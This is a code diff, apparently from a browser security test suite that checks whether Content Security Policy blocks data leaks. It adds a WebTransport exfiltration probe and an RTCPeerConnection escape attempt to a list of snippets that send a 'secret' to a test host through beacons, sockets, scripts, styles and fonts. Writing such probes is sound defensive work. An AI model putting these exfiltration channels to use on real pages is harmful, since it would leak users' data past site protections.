@@ -58,6 +58,7 @@ function exitsScript(lair: string): string {
     beacon: `navigator.sendBeacon('${lair}/beacon?secret', 'secret')`,
     socket: `new WebSocket('${socket}/socket?secret')`,
     'event-source': `new EventSource('${lair}/event-source?secret')`,
+    'web-transport': `const transport = new WebTransport('${lair.replace('http', 'https')}/web-transport?secret'); for (const end of ['ready', 'closed']) transport[end].catch(() => {})`,
     script: `add('script', { src: '${lair}/script?secret' })`,
     style: `add('link', { rel: 'stylesheet', href: '${lair}/style?secret' })`,
     font: `new FontFace('secret', 'url(${lair}/font?secret)').load().catch(() => {})`,
@@ -104,6 +105,7 @@ export const exits: Readonly<Record<string, string>> = {
   beacon: 'connect-src',
   socket: 'connect-src',
   'event-source': 'connect-src',
+  'web-transport': 'connect-src',
   script: 'script-src-elem',
   style: 'style-src-elem',
   font: 'font-src',
@@ -145,4 +147,5 @@ const escapeScript = `
   attempt('origin', () => origin)
   attempt('alert', () => alert('x'))
   attempt('eval', () => eval('1 + 1'))
+  attempt('peer connection', () => new RTCPeerConnection().connectionState)
 `
